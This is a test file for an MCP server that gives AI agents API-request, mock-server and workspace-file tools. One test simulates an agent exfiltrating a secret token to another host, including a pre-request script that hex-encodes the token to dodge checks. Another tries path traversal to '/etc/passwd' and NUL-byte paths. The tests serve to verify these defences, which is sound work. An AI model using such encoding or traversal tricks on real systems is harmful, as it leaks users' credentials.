    expect(envs.json.workspaceVariables).toEqual([{ key: 'who', value: 'agent', enabled: true }]);
  });

  it('starts, lists, reads the traffic of and stops servers; an SSE request reads per settings.stream', async () => {
    const listed = await call('list_servers');
    expect(listed.json.servers.map((s: { id: string; running: boolean }) => [s.id, s.running])).toEqual([['events', false], ['mock', false]]);
    const mock = await call('start_server', { id: 'mock' });
    expect(mock.isError).toBe(false);
    expect(mock.json.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
    const again = await call('start_server', { id: 'mock' });
    expect(again.isError).toBe(true);
    expect(again.text).toMatch(/already running/);
    // No secret: the mock's port is not a host the workspace used when ferry mcp started.
    const hello = await call('send_request', { request: { name: 'Hello', url: `${mock.json.url}/hello`, headers: [{ key: 'X-Api-Key', value: '{{who}}' }] } });
    expect(JSON.parse(hello.json.response.body.text)).toEqual({ hello: 'agent' });
    const traffic = await call('server_traffic', { id: 'mock' });
    expect(traffic.json.records.length).toBeGreaterThanOrEqual(1);
    expect(traffic.json.records.at(-1).summary).toMatch(/GET \/hello/);
    expect((await call('list_servers')).json.servers.find((s: { id: string }) => s.id === 'mock')).toMatchObject({ running: true, url: mock.json.url });

    const events = await call('start_server', { id: 'events' });
    const sse = await call('send_request', { path: 'Events.yaml', variables: { eventsUrl: events.json.url } });
    expect(sse.isError).toBe(false);
    expect(sse.json.kind).toBe('sse');
    expect(sse.json.stream.stoppedBy).toBe('event'); // settings.stream.event: greeting, the first event's name
    expect(sse.json.messages[0]).toMatchObject({ event: 'greeting', text: 'Hello Ada' });
    // A stream read long reports each message as progress (a count, no content), so a client's timeout can wait for it.
    const progress: Array<{ progress: number; total?: number; message?: string }> = [];
    const five = await client.callTool(
      { name: 'send_request', arguments: { request: { name: 'Five', kind: 'sse', url: `${events.json.url}/?user=Ada`, settings: { stream: { maxEvents: 5, timeoutMs: 5000 } } } } },
      undefined,
      { timeout: 30_000, resetTimeoutOnProgress: true, onprogress: (p) => void progress.push(p) },
    );
    expect(JSON.parse((five.content as Array<{ text: string }>)[0]!.text).messages).toHaveLength(5);
    expect(progress.length).toBeGreaterThanOrEqual(1);
    expect(progress[0]).toEqual({ progress: 1, message: '1 message so far' });
    for (let i = 1; i < progress.length; i++) expect(progress[i]!.progress).toBeGreaterThan(progress[i - 1]!.progress);

    expect((await call('stop_server', { id: 'mock' })).json).toEqual({ id: 'mock', stopped: true });
    expect((await call('stop_server', { id: 'events' })).isError).toBe(false);
    const stopped = await call('stop_server', { id: 'mock' });
    expect(stopped.isError).toBe(true);
    expect(stopped.text).toMatch(/not running here/);
    const unknown = await call('start_server', { id: 'nope' });
    expect(unknown.isError).toBe(true);
    expect(unknown.text).toMatch(/No server "nope"/);
    // The traffic of a server that does not exist is an error, not an empty log; one never started says so.
    const noTraffic = await call('server_traffic', { id: 'nope' });
    expect(noTraffic.isError).toBe(true);
    expect(noTraffic.text).toMatch(/No server "nope": there is no servers\/nope\.yaml\. Servers here: events, mock\./);
    expect((await call('server_traffic', { id: 'mock' })).json.records.length).toBeGreaterThanOrEqual(1);
    await write('servers/quiet.yaml', { name: 'Quiet', port: 0, http: { routes: [] } });
    const quiet = await call('server_traffic', { id: 'quiet' });
    expect(quiet.json.records).toEqual([]);
    expect(quiet.json.note).toMatch(/quiet is not running here; start it with start_server/);
    await fs.rm(path.join(root, 'servers', 'quiet.yaml'));
    const closed = await fetch(`${mock.json.url}/hello`).then(() => 'open', () => 'closed');
    expect(closed).toBe('closed');
  });

  it('start_server names misspelt fields of the server file among its warnings, as ferry serve prints them', async () => {
    await write('servers/typo.yaml', { name: 'Typo', port: 0, http: { routes: [], rotues: [] } });
    try {
      const typo = await call('start_server', { id: 'typo' });
      expect(typo.isError).toBe(false);
      expect(typo.json.warnings).toEqual([expect.stringMatching(/^servers\/typo\.yaml: fields that servers do not have are ignored: http\.rotues \(did you mean (http\.)?routes\?\)\.$/)]);
      expect((await call('stop_server', { id: 'typo' })).isError).toBe(false);
    } finally {
      await fs.rm(path.join(root, 'servers', 'typo.yaml'));
    }
  });

  it('two start_server calls at once for one server start it once (an agent calls tools in parallel)', async () => {
    const both = await Promise.all([call('start_server', { id: 'mock' }), call('start_server', { id: 'mock' })]);
    const refused = both.filter((r) => r.isError);
    expect(refused).toHaveLength(1);
    expect(refused[0]!.text).toMatch(/The server mock is already (running|starting)/);
    const started = both.find((r) => !r.isError)!;
    expect((await call('stop_server', { id: 'mock' })).isError).toBe(false);
    expect(await fetch(`${started.json.url}/hello`).then(() => 'open', () => 'closed')).toBe('closed');
    expect((await call('list_servers')).json.servers.find((s: { id: string }) => s.id === 'mock').running).toBe(false);
  });

  it('check_contract checks the last answer against the API document', async () => {
    const early = await call('check_contract', { path: 'Pets/Get pet.yaml' });
    expect(early.isError).toBe(true);
    expect(early.text).toMatch(/send it with send_request first/);
    const sent = await call('send_request', { path: 'Pets/Get pet.yaml' });
    expect(sent.json.tests[0]).toMatchObject({ name: 'Matches the API spec (GET /pets/{id} -> 200)', passed: false });
    const checked = await call('check_contract', { path: 'Pets/Get pet.yaml' });
    expect(checked.json).toMatchObject({ checked: true, status: 200, test: { name: 'Matches the API spec (GET /pets/{id} -> 200)', passed: false } });
    expect(checked.json.test.problems).toEqual(['$.name: expected string, got integer']);
    await call('send_request', { path: 'Echo/Big.yaml' });
    const notLinked = await call('check_contract', { path: 'Echo/Big.yaml' });
    expect(notLinked.json).toMatchObject({ checked: false });
    expect(notLinked.json.reason).toMatch(/names no OpenAPI operation/);
  });

  it('says what is wrong when ferry.yaml breaks between calls (a newer version refused, a broken file warned of), and works again once it is fixed', async () => {
    const file = path.join(root, 'ferry.yaml');
    const good = await fs.readFile(file, 'utf8');
    try {
      await fs.writeFile(file, 'version: 2\nname: Future\n');
      const newer = await call('list_requests');
      expect(newer.isError).toBe(true);
      expect(newer.text).toMatch(/newer version/i);
      // Spec 2.1.9: a file that does not parse is a warning and the workspace still opens.
      await fs.writeFile(file, 'name: [unclosed\n');
      const listed = await call('list_requests');
      expect(listed.isError).toBe(false);
      // As ferry ls --json gives it: its place and words, printed as the terminal prints them.
      const problem = (listed.json.warnings as Warning[]).find((w) => w.file === 'ferry.yaml')!;
      expect(problem).toEqual({ file: 'ferry.yaml', line: expect.any(Number), column: expect.any(Number), message: expect.stringMatching(/^YAML syntax error.*The workspace opens without this file's variables/) });
      expect(formatWarning(problem)).toMatch(/^ferry\.yaml:\d+:\d+: YAML syntax error.*The workspace opens without this file's variables/);
    } finally {
      await fs.writeFile(file, good);
    }
    expect((await call('list_requests')).isError).toBe(false);
  });

  it('sends secret values only to hosts the workspace used when it started: elsewhere nothing is sent, and the error says how the user allows it', async () => {
    // Another host (another port of 127.0.0.1), which no saved request or environment names.
    const received: string[] = [];
    const other = http.createServer((req, res) => {
      received.push(`${req.method} ${req.url}`);
      res.writeHead(200, { 'content-type': 'text/plain' }).end('ok');
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    const otherHost = `127.0.0.1:${(other.address() as AddressInfo).port}`;
    try {
      const refusedWith = (sent: Called) => {
        expect(sent.isError).toBe(false);
        expect(sent.json.passed).toBe(false);
        return sent.json.error as string;
      };
      // A secret in a header, in the query, in Base64 (Basic auth), and in an OAuth 2.0 token request.
      const header = refusedWith(await call('send_request', { request: { name: 'Steal', url: `http://${otherHost}/steal`, headers: [{ key: 'X-Api-Key', value: '{{token}}' }] } }));
      expect(header).toBe(`requests/Steal.yaml was not sent: it would carry a secret value to ${otherHost}, a host that none of this workspace's saved requests and environments used when ferry mcp started (those: ${new URL(baseUrl).host}). ferry mcp sends secret values only to hosts the user chose. Send it without secret variables, or ask the user: if they mean this host, they add a saved request or an environment variable with its URL to the workspace and restart ferry mcp.`);
      expect(refusedWith(await call('send_request', { request: { name: 'Query', url: `http://${otherHost}/q?k={{token}}` } }))).toMatch(/^requests\/Query\.yaml was not sent: it would carry a secret value to /);
      expect(refusedWith(await call('send_request', { request: { name: 'Basic', url: `http://${otherHost}/b`, auth: { type: 'basic', username: 'ada', password: '{{token}}' } } }))).toMatch(/would carry a secret value/);
      const oauth = refusedWith(await call('send_request', { request: { name: 'Token', url: `${baseUrl}/echo`, auth: { type: 'oauth2', grantType: 'clientCredentials', tokenUrl: `http://${otherHost}/token`, clientId: 'app', clientSecret: '{{token}}' } } }));
      expect(oauth).toMatch(new RegExp(`its OAuth 2\\.0 token request would carry a secret value to ${otherHost.replace(/\./g, '\\.')}`));
      // A pre-request script could turn the secret into something no check recognizes (here hex).
      const scripted = refusedWith(await call('send_request', { request: { name: 'Hex', url: `http://${otherHost}/h`, headers: [{ key: 'X-Data', value: '{{data}}' }], scripts: { preRequest: "pm.variables.set('data', Array.from(pm.environment.get('token')).map(function (c) { return c.charCodeAt(0).toString(16); }).join(''));" } } }));
      expect(scripted).toMatch(/a pre-request script ran for it, which can read secret values and change their form/);
      // A script of a send to a chosen host stores the secret in hex; a later send with no script of its own carries that value elsewhere.
      const storing = await call('send_request', { request: { name: 'Store', url: `${baseUrl}/echo`, scripts: { preRequest: "pm.environment.set('stash', Array.from(pm.environment.get('token')).map(function (c) { return c.charCodeAt(0).toString(16); }).join(''));" } } });
      expect(storing.json.status, JSON.stringify(storing.json)).toBe(200);
      const later = refusedWith(await call('send_request', { request: { name: 'Later', url: `http://${otherHost}/later`, headers: [{ key: 'X-Data', value: '{{stash}}' }] } }));
      expect(later).toMatch(/^requests\/Later\.yaml was not sent: it carries a value a script stored in an earlier send \(a script can read secret values and store them in a form no check recognizes\), and would go to /);
      // A short value a script stored (an id, a flag) does not stop a send: only values of 8 characters or more count.
      expect((await call('send_request', { request: { name: 'Short', url: `${baseUrl}/echo`, scripts: { preRequest: "pm.environment.set('page', '2');" } } })).json.status).toBe(200);
      const short = await call('send_request', { request: { name: 'Paged', url: `http://${otherHost}/paged?page={{page}}` } });
      expect(short.json.status).toBe(200);
      expect(received).toEqual(['GET /paged?page=2']);
      received.length = 0;
      // A file the agent writes now is not a host the user chose: the hosts were read at the start.
      await write('requests/Echo/Steal.yaml', { name: 'Steal', url: `http://${otherHost}/file`, headers: [{ key: 'X-Api-Key', value: '{{token}}' }] });
      expect(refusedWith(await call('send_request', { path: 'Echo/Steal.yaml' }))).toMatch(/^requests\/Echo\/Steal\.yaml was not sent/);
      const run = await call('run', { paths: ['Echo/Steal.yaml'] });
      expect(run.json.results[0].error).toMatch(/^requests\/Echo\/Steal\.yaml was not sent/);
      expect(received).toEqual([]);
      // Without a secret the same host is fine; with the secret, a host the workspace uses is too.
      const plain = await call('send_request', { request: { name: 'Plain', url: `http://${otherHost}/plain`, headers: [{ key: 'X-Who', value: '{{who}}' }] } });
      expect(plain.json.status).toBe(200);
      expect(received).toEqual(['GET /plain']);
      const own = await call('send_request', { request: { name: 'Own', url: '{{baseUrl}}/echo', headers: [{ key: 'X-Api-Key', value: '{{token}}' }] } });
      expect(JSON.parse(own.json.response.body.text).headers['x-api-key']).toBe('***');
    } finally {
      await fs.rm(path.join(root, 'requests', 'Echo', 'Steal.yaml'), { force: true });
      await new Promise((resolve) => other.close(resolve));
    }
  });

  it('serves the workspace files as read-only resources, nothing outside', async () => {
    const { resources } = await client.listResources();
    const uris = resources.map((r) => r.uri);
    expect(uris).toContain('ferry://workspace/ferry.yaml');
    expect(uris).toContain('ferry://workspace/requests/Echo/Get%20echo.yaml');
    const read = await client.readResource({ uri: 'ferry://workspace/requests/Echo/Get%20echo.yaml' });
    expect((read.contents[0] as { text: string }).text).toContain('{{token}}');
    const escape = await client.readResource({ uri: 'ferry://workspace/..%2F..%2Fetc%2Fpasswd' }).catch((error: Error) => error);
    expect(String(escape)).toMatch(/without \. or \.\. parts|outside the workspace/);
    const missing = await client.readResource({ uri: 'ferry://workspace/nothing.yaml' }).catch((error: Error) => error);
    expect(String(missing)).toMatch(/There is no file nothing\.yaml/);
    // A NUL in the address and a folder: said in the tools' words, not Node's (which named this computer's absolute path).
    const nul = await client.readResource({ uri: 'ferry://workspace/ferry.yaml%00.txt' }).catch((error: Error) => error);
    expect(String(nul)).toMatch(/ferry\.yaml%00\.txt: give a file path inside the workspace, without \. or \.\. parts, dot files or control characters/);
    expect(String(nul)).not.toContain(root);
    const folder = await client.readResource({ uri: 'ferry://workspace/requests' }).catch((error: Error) => error);
    expect(String(folder)).toMatch(/requests is a folder, not a file; resources\/list gives the files/);
  });
});

describe('ferry mcp with the MCP Inspector CLI 0.15', () => {
  it('lists the tools', async () => {
    const inspector = path.join(repo, 'node_modules', '.bin', 'mcp-inspector');
    if (!existsSync(inspector)) {
      console.warn('skipped: the MCP Inspector is not installed (node_modules/.bin/mcp-inspector)');
      return;
    }
    const child = spawn(inspector, ['--cli', process.execPath, bin, 'mcp', '-w', root, '--method', 'tools/list'], {
      env: { ...process.env, FERRY_DATA_DIR: dataDir },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let out = '';
    let err = '';
    child.stdout.on('data', (c: Buffer) => (out += c.toString()));
    child.stderr.on('data', (c: Buffer) => (err += c.toString()));
    const timer = setTimeout(() => child.kill('SIGKILL'), 40_000);
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    clearTimeout(timer);
    expect(code, err).toBe(0);
    const listed = JSON.parse(out) as { tools: Array<{ name: string }> };
    expect(listed.tools.map((t) => t.name)).toContain('send_request');
    expect(listed.tools).toHaveLength(12);
  }, 60_000);
});

describe('the ferry mcp command', () => {
  it('refuses a folder that is not a workspace with exit code 2, before serving', async () => {
    const result = await ferry(['-w', outside, 'mcp']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/ferry: .*ferry\.yaml/);
    expect(result.stdout).toBe('');
  });

  it('docs/agents.md gives configurations that parse and start `ferry mcp` with options it has', async () => {
    const doc = await fs.readFile(path.join(repo, 'docs', 'agents.md'), 'utf8');
    const blocks = [...doc.matchAll(/```json\n([\s\S]*?)```/g)].map((m) => JSON.parse(m[1]!) as { mcpServers?: object; servers?: object });
    expect(blocks.length).toBe(3);
    for (const block of blocks) {
      const entry = Object.values(block.mcpServers ?? block.servers ?? {})[0] as { command: string; args: string[] };
      expect(entry.command).toBe('npx');
      expect(entry.args.slice(0, 2)).toEqual(['ferry', 'mcp']);
      // Only -w DIR follows: an option `ferry mcp` does not have would fail at start.
      const rest = entry.args.slice(2);
      expect(rest.length === 0 || (rest.length === 2 && rest[0] === '-w')).toBe(true);
    }
    const shell = [...doc.matchAll(/```sh\n([\s\S]*?)```/g)].map((m) => m[1]!.trim());
    expect(shell).toContain('claude mcp add ferry -- npx ferry mcp -w /path/to/workspace');
    expect(shell.some((line) => line.startsWith('npx @modelcontextprotocol/inspector --cli npx ferry mcp -w examples/demo --method tools/list'))).toBe(true);
  });

  it('has help with configuration examples', async () => {
    const help = await ferry(['mcp', '--help']);
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('claude mcp add ferry -- npx ferry mcp -w /path/to/workspace');
    expect(help.stdout).toContain('docs/agents.md');
    // Each configuration the help shows is one of docs/agents.md's, under the key its client reads
    // (VS Code reads "servers", Cursor and Claude Code "mcpServers").
    const doc = await fs.readFile(path.join(repo, 'docs', 'agents.md'), 'utf8');
    const documented = [...doc.matchAll(/```json\n([\s\S]*?)```/g)].map((m) => JSON.parse(m[1]!) as Record<string, Record<string, unknown>>);
    const shown = help.stdout.split('\n').map((line) => line.trim()).filter((line) => line.startsWith('{')).map((line) => JSON.parse(line) as Record<string, Record<string, unknown>>);
    expect(shown.length).toBeGreaterThanOrEqual(2);
    for (const config of shown) expect(documented, JSON.stringify(config)).toContainEqual(config);
    expect(help.stdout).toMatch(/VS Code[^\n]*\n\s*\n\s*\{"servers"/);
  });

  it('stops the servers it started when the agent disconnects', async () => {
    const second = new Client({ name: 'ferry-test-2', version: '1.0.0' });
    await second.connect(new StdioClientTransport({ command: process.execPath, args: [bin, 'mcp', '-w', root], env: { ...getDefaultEnvironment(), FERRY_DATA_DIR: dataDir }, stderr: 'ignore' }));
    const started = await second.callTool({ name: 'start_server', arguments: { id: 'mock' } });
    const url = JSON.parse((started.content as Array<{ text: string }>)[0]!.text).url as string;
    expect((await fetch(`${url}/hello`)).status).toBe(200);
    await second.close();
    const deadline = Date.now() + 15_000;
    let state = 'open';
    while (state === 'open' && Date.now() < deadline) {
      state = await fetch(`${url}/hello`).then(() => 'open', () => 'closed');
      if (state === 'open') await new Promise((resolve) => setTimeout(resolve, 100));
    }
    expect(state).toBe('closed');
  }, 40_000);

  it('ends with exit code 0 when the agent closes its input', async () => {
    const child = spawn(process.execPath, [bin, 'mcp', '-w', root], { env: { ...process.env, FERRY_DATA_DIR: dataDir }, stdio: ['pipe', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (c: Buffer) => (out += c.toString()));
    const timer = setTimeout(() => child.kill('SIGKILL'), 20_000);
    child.stdin.end();
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    clearTimeout(timer);
    expect(code).toBe(0);
    expect(out).toBe(''); // nothing but the protocol on standard output, and no message was asked for
  }, 30_000);
});
